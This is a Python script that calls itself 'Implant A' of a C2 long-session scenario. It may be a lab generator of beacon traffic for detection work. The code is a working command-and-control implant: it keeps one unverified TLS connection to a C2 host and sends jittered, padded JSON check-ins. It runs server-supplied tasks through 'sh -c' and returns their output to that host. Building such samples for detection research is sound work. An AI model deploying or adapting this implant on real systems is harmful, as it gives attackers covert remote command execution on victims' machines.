#!/usr/bin/python3
"""Implant A of the c2-long-session story (victim side): opens ONE TLS connection (TLS 1.2, SNI NAME, certificate
not checked, no TCP keep-alive) to its C2 and keeps it open for COUNT check-ins, one every PERIOD s +-JITTER
(uniform, seeded). Each message is a 4-byte big-endian length and JSON: {"id","seq","status":"idle","pad"}, the
pad random-looking and of varying length (150-250 bytes in all). When an answer carries a task it runs it
(sh -c, 10 s timeout) and sends the output in its next check-in (status "result"). Then it closes. No reconnects.

    session-beacon-agent.py NAME PORT PERIOD JITTER COUNT
"""
import json, random, socket, ssl, string, struct, subprocess, sys, time

NAME, PORT, PERIOD, JITTER, COUNT = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5])
IMPLANT = "a3f9c2e1"
rng = random.Random(20261226)
ALPHA = string.ascii_letters + string.digits + "+/"


def recv_exact(s, n):
    b = b""
    while len(b) < n:
        c = s.recv(n - len(b))
        if not c:
            raise EOFError("closed by server")
        b += c
    return b


ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.maximum_version = ssl.TLSVersion.TLSv1_2
raw = socket.create_connection((NAME, PORT), timeout=30)
s = ctx.wrap_socket(raw, server_hostname=NAME)
print(time.strftime("%H:%M:%S"), "connected", s.getpeername(), s.version(), s.cipher(), flush=True)
pending = None   # (task, output) to report in the next check-in
for seq in range(1, COUNT + 1):
    t0 = time.time()
    msg = {"id": IMPLANT, "seq": seq, "status": "idle"}
    if pending:
        msg["status"] = "result"
        msg["task"], msg["out"] = pending
        pending = None
    base = len(json.dumps(msg, separators=(",", ":"))) + len(',"pad":""')
    target = rng.randint(150, 250) - 4           # length prefix included
    msg["pad"] = "".join(rng.choice(ALPHA) for _ in range(max(8, target - base)))
    data = json.dumps(msg, separators=(",", ":")).encode()
    s.sendall(struct.pack(">I", len(data)) + data)
    ans = json.loads(recv_exact(s, struct.unpack(">I", recv_exact(s, 4))[0]))
    print(time.strftime("%H:%M:%S"), "check-in", seq, msg["status"], "sent", len(data) + 4, "answer", ans, flush=True)
    if ans.get("task"):
        try:
            out = subprocess.run(["sh", "-c", ans["task"]], capture_output=True, text=True, timeout=10).stdout
        except Exception as e:
            out = "error: %s" % e
        print(time.strftime("%H:%M:%S"), "task", ans["task"], "output", len(out), "bytes", flush=True)
        pending = (ans["task"], out)
    if seq < COUNT:
        time.sleep(max(0.5, PERIOD * (1 + rng.uniform(-JITTER, JITTER)) - (time.time() - t0)))
try:
    s.unwrap()
except Exception:
    pass
s.close()
print(time.strftime("%H:%M:%S"), "closed", flush=True)
